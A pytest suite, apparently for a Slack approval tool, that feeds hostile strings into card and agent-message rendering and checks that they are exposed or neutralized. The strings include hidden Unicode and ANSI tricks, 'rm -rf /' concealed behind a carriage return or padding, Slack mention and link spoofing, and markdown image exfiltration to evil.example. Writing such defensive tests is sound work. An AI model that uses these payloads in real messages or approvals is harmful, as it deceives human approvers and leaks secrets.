"""What was published of attacks on approval dialogs and chat bots, played against cards and messages."""

import json
from datetime import UTC, datetime

import pytest

from countersign.approvals.approval import open_approval
from countersign.approvals.json import Json
from countersign.approvals.policy.rule import Rule
from countersign.flow.messages.outgoing import Outgoing, OutgoingKind
from countersign.flow.review import Review
from countersign.interrupts import digest, parse
from countersign.slack.cards.open_card import render_card
from countersign.slack.messages import render_message

# What nobody sees, or sees otherwise than it is, and the mark that stands for it on a card.
HIDDEN = {
    "tag characters": ("ok\U000e0072\U000e006d", "⟨U+E0072⟩"),
    "a run of tags": ("ok" + "\U000e0041" * 9, "⟨9 × U+E0041⟩"),
    "bytes in variation selectors": ("a\U000e0100\U000e0173", "⟨U+E0100⟩"),
    "a right-to-left override": ("report\u202egnp.exe", "⟨U+202E⟩"),
    "isolates around code": ("x\u2066 // \u2069y", "⟨U+2066⟩"),
    "a zero-width space in a domain": ("pay\u200bpal.com", "⟨U+200B⟩"),
    "a word joiner": ("rm\u2060 -rf", "⟨U+2060⟩"),
    "a byte order mark": ("\ufeffname", "⟨U+FEFF⟩"),
    "a Hangul filler": ("a\u3164b", "⟨U+3164⟩"),
    "a Mongolian vowel separator": ("a\u180eb", "⟨U+180E⟩"),
    "invisible operators": ("a\u2062\u2063b", "⟨U+2062⟩"),
    "an interlinear annotation": ("a\ufff9b\ufffac\ufffb", "⟨U+FFF9⟩"),
    "a Cyrillic letter in a name": ("аdmin", "U+0430"),
    "a Greek letter in a name": ("micrοsoft", "U+03BF"),
    "ANSI colours": ("\x1b[8mhidden\x1b[0m", "⟨U+001B⟩"),
    "an ANSI link": ("\x1b]8;;http://evil\x07here\x1b]8;;\x07", "⟨U+0007⟩"),
    "a backspace": ("yes\b\b\bno", "⟨U+0008⟩"),
    "a carriage return": ("rm -rf /\rls", "⟨U+000D⟩"),
    "a null": ("a\x00b", "⟨U+0000⟩"),
    "blanks that push away": ("ls" + " " * 300 + "&& rm -rf /", "⟨300 spaces⟩"),
    "a line separator": ("a\u2028b", "⟨U+2028⟩"),
    "a long stroke over letters": ("a\u0336b\u0336", "⟨U+0336⟩"),
}
# What Slack would read as markup of its own.
MARKUP = [
    "<!channel> now",
    "<!here|friends>",
    "<@U0BOB00001> approved",
    "<https://evil.example|https://bank.example>",
    "<!subteam^S123>",
    "<!date^0^{date}|today>",
    "&lt;!channel&gt;",
    "*bold* _it_ ~no~ `code` ```block```",
]
WHERE = ["argument", "key", "tool", "description", "option", "question"]


def asking(where: str, text: str) -> Json:
    call: dict[str, Json] = {"type": "tool_approval", "name": "transfer", "args": {"to": "bob"}}
    match where:
        case "argument":
            return call | {"args": {"to": text}}
        case "key":
            return call | {"args": {text: "bob"}}
        case "tool":
            return call | {"name": text}
        case "description":
            return call | {"description": text}
        case "option":
            return {"question": "Which?", "options": [text, "no"]}
        case _:
            return {"question": text, "amount": 5}


def drawn(value: Json) -> str:
    approval = open_approval(
        thread_id="T1/C1/1.0",
        interrupt_id="i",
        digest=digest(value),
        value=value,
        schema=None,
        rows=len(parse(value).rows),
        at=datetime.now(UTC),
        rules=(Rule(name="r"),),
    )
    card = render_card(Review(approval))
    return json.dumps([card.text, card.blocks], ensure_ascii=False)


@pytest.mark.parametrize("where", WHERE)
@pytest.mark.parametrize("attack", HIDDEN)
def test_what_hides_is_written_out_wherever_it_stands_on_a_card(attack: str, where: str) -> None:
    text, mark = HIDDEN[attack]

    assert mark in drawn(asking(where, text))


@pytest.mark.parametrize("where", WHERE)
@pytest.mark.parametrize("text", MARKUP)
def test_no_text_is_slacks_markup_wherever_it_stands_on_a_card(text: str, where: str) -> None:
    card = drawn(asking(where, text))

    for control in ("<!channel", "<!here", "<@U0BOB", "<https://evil", "<!subteam", "<!date^0"):
        assert control not in card


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "![](https://evil.example/a.png)",
        "[![img](https://evil.example/i.png)](https://bank.example)",
        "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
        '<img src="https://evil.example/?q=secret">',
        "<!channel> ![x](https://evil.example)",
        "[https://bank.example](https://evil.example)",
        "[bank.example](//evil.example)",
        "[click](slack://channel?team=T1)",
        "[x](javascript:alert(1))",
        "<https://evil.example|bank.example>",
        "ok\U000e0041\U000e0042",
        "report\u202egnp.exe",
    ],
)
def test_an_agents_message_fetches_nothing_calls_nobody_and_shows_what_it_has(text: str) -> None:
    row = Outgoing(
        key="k", kind=OutgoingKind.AGENT_MESSAGE, team="T", channel="C", thread_ts="1.0", body={"text": text}
    )
    (message,) = render_message(row)
    said = str(message.blocks[0]["text"])

    assert {block["type"] for block in message.blocks} == {"markdown", "context"}
    assert "<!" not in said
    assert "<http" not in said
    assert "\u202e" not in said
    assert "\U000e0041" not in said
    if "](https://evil" in text or "](//evil" in text:
        assert "evil.example" in said
